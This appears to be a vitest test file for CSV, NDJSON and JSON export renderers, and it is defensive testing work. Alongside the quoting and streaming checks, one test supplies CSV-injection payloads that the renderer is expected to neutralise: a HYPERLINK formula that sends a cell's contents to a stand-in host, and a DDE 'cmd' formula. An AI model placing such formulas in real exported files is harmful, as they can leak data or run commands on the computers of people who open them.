import { describe, expect, it } from "vitest";
import { csvField, renderCsv, renderJsonDocument, renderNdjson } from "../../render.js";
import { readBody } from "../fixtures/small-dataset.js";

async function* rows(n: number) {
  for (let i = 0; i < n; i += 1) yield { id: i, name: `row ${i}` };
}

describe("renderers", () => {
  it("quotes CSV fields per RFC 4180", async () => {
    expect(csvField('say "hi", then\nleave')).toBe('"say ""hi"", then\nleave"');
    expect(csvField(null)).toBe("");
    const text = await readBody(
      renderCsv([
        { a: 1, b: "x,y" },
        { a: null, b: 'q"' },
      ]),
    );
    expect(text).toBe('a,b\r\n1,"x,y"\r\n,"q"""\r\n');
  });

  it.each([
    ["=", '=HYPERLINK("http://x/?"&A1)', '"\'=HYPERLINK(""http://x/?""&A1)"'],
    ["+", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-", "-2+3", "'-2+3"],
    ["@", "@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["tab", "\t=1+1", "'\t=1+1"],
    ["CR", "\r=1+1", '"\'\r=1+1"'],
  ])(
    "neutralises a CSV string cell starting with %s by a leading quote (OWASP CSV Injection)",
    async (_first, cell, expected) => {
      // Act
      const text = await readBody(renderCsv([{ note: cell }]));
      // Assess
      expect(text).toBe(`note\r\n${expected}\r\n`);
    },
  );

  it("neutralises only the formula-like string cells of a row: negative numbers and plain text stay as they are", async () => {
    // Prepare: a numeric column with negatives, a big integer the adapters hand over as a string
    const data = [
      { amount: -5, big: "-9007199254740993", name: "ACME, Inc.", note: "-1+1" },
      { amount: -0.25, big: "+12", name: "a-b=c", note: "=1+1" },
    ];
    // Act
    const text = await readBody(renderCsv(data));
    // Assess
    expect(text).toBe(
      "amount,big,name,note\r\n-5,-9007199254740993,\"ACME, Inc.\",'-1+1\r\n-0.25,+12,a-b=c,'=1+1\r\n",
    );
  });

  it("writes a CSV header from given columns even without rows", async () => {
    expect(await readBody(renderCsv([], ["a", "b"]))).toBe("a,b\r\n");
  });

  it("streams NDJSON in bounded chunks", async () => {
    const chunks: Uint8Array[] = [];
    for await (const chunk of renderNdjson(rows(20_000))) chunks.push(chunk);
    expect(chunks.length).toBeGreaterThan(1);
    expect(Math.max(...chunks.map((c) => c.byteLength))).toBeLessThan(128 * 1024);
    const lines = new TextDecoder().decode(Buffer.concat(chunks)).trimEnd().split("\n");
    expect(lines).toHaveLength(20_000);
    expect(JSON.parse(lines[19_999] as string)).toEqual({ id: 19_999, name: "row 19999" });
  });

  it("renders a valid document with rows or sections", async () => {
    const head = {
      report_type: "X Report",
      job_id: "j",
      generated_at: "t",
      parameters: { a: 1 },
      summary: { n: 2 },
    };
    const flat = JSON.parse(await readBody(renderJsonDocument(head, { kind: "rows", rows: rows(2) })));
    expect(flat).toEqual({
      ...head,
      data: [
        { id: 0, name: "row 0" },
        { id: 1, name: "row 1" },
      ],
    });
    const empty = JSON.parse(await readBody(renderJsonDocument(head, { kind: "rows", rows: [] })));
    expect(empty.data).toEqual([]);
    const sectioned = JSON.parse(
      await readBody(
        renderJsonDocument(head, {
          kind: "sections",
          sections: [
            { section: "s1", rows: rows(1) },
            { section: "s2", rows: [] },
          ],
        }),
      ),
    );
    expect(sectioned.data).toEqual([
      { section: "s1", rows: [{ id: 0, name: "row 0" }] },
      { section: "s2", rows: [] },
    ]);
  });
});
